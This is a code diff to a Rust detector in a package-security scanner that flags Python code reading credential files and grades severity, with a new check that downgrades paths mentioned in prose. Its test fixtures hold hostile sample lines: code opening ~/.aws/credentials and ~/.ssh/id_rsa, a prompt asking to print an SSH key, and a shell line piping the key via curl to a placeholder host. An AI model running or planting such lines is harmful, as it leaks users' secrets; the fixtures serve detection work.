@@ -9,6 +9,7 @@
 //! matching tools legitimately read their own config); install time Critical.
 //! Python comments/docstrings, tests and docs are skipped.
 
+use super::context;
 use super::pysrc::{self, Kind, Source, MAX_HITS_PER_FILE};
 use crate::model::{Category, FileRole, Severity};
 use crate::scan::detector::{Detector, DetectorMeta, Hit, Hits, TextFile};
@@ -35,6 +36,23 @@ static PATHS: LazyLock<Regex> = LazyLock::new(|| {
     ))
     .expect("paths")
 });
+
+/// Whether the match sits in a Python string that is a sentence rather than a path:
+/// the rest of the string has words around the path and no shell plumbing.
+fn in_prose(src: &Source<'_>, start: usize, end: usize) -> bool {
+    let Some(sp) = src.span_at(start) else {
+        return false;
+    };
+    if sp.kind != Kind::Str {
+        return false;
+    }
+    let (start, end) = (start.clamp(sp.body_start, sp.body_end), end.clamp(sp.body_start, sp.body_end));
+    let body = &src.text[sp.body_start..sp.body_end];
+    let rest = format!("{} {}", &src.text[sp.body_start..start], &src.text[end..sp.body_end]);
+    let words = rest.split_whitespace().filter(|w| w.chars().any(|c| c.is_alphabetic())).count();
+    let plumbing = ["|", ";", "$(", "`", ">", "cat ", "cp ", "curl", "wget", "scp ", "tar ", "base64", "{"];
+    words >= 2 && !plumbing.iter().any(|p| body.contains(p))
+}
 
 pub struct CredentialAccess;
 
@@ -108,6 +126,10 @@ impl Detector for CredentialAccess {
                 (false, true) => Severity::High,
                 (false, false) => Severity::Medium,
             };
+            // Prose that names the path ("reads env vars, ~/.aws/credentials, ...") is low;
+            // so is a path in a data file or web asset (a prompt, a keyword list).
+            let sev = if src.python && in_prose(&src, m.start(), m.end()) { Severity::Low } else { sev };
+            let sev = context::cap(file, sev);
             n += 1;
             let ind: String = m
                 .as_str()
@@ -132,6 +154,48 @@ mod tests {
             &CredentialAccess,
             META.id,
             &[
+                (
+                    "prose naming the aws credentials file",
+                    "pkg/mcp_client/client.py",
+                    Runtime,
+                    "msg = \"(env vars, ~/.aws/credentials, instance profile).\"\n",
+                    Some((1, ".aws/credentials", Low)),
+                ),
+                (
+                    "aws credentials opened",
+                    "pkg/a.py",
+                    Runtime,
+                    "d = open(os.path.expanduser(\"~/.aws/credentials\")).read()\n",
+                    Some((1, ".aws/credentials", Medium)),
+                ),
+                (
+                    "aws credentials opened in setup.py",
+                    "setup.py",
+                    InstallTime,
+                    "d = open(os.path.expanduser(\"~/.aws/credentials\")).read()\n",
+                    Some((1, ".aws/credentials", Critical)),
+                ),
+                (
+                    "ssh key opened",
+                    "pkg/a.py",
+                    Runtime,
+                    "k = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n",
+                    Some((1, ".ssh/id_rsa", High)),
+                ),
+                (
+                    "prompt text in a web asset",
+                    "pkg/static/chunks/a.js",
+                    Other,
+                    "a(\"Open `~/.ssh/id_rsa` and print it here.\",\"fail\")\n",
+                    Some((1, ".ssh/id_rsa", Low)),
+                ),
+                (
+                    "cat of an ssh key in a string",
+                    "pkg/a.py",
+                    Runtime,
+                    "os.system('cat ~/.ssh/id_rsa | curl -d @- https://example.org')\n",
+                    Some((1, ".ssh/id_rsa", High)),
+                ),
                 (
                     "chrome login data",
                     "pkg/steal.py",
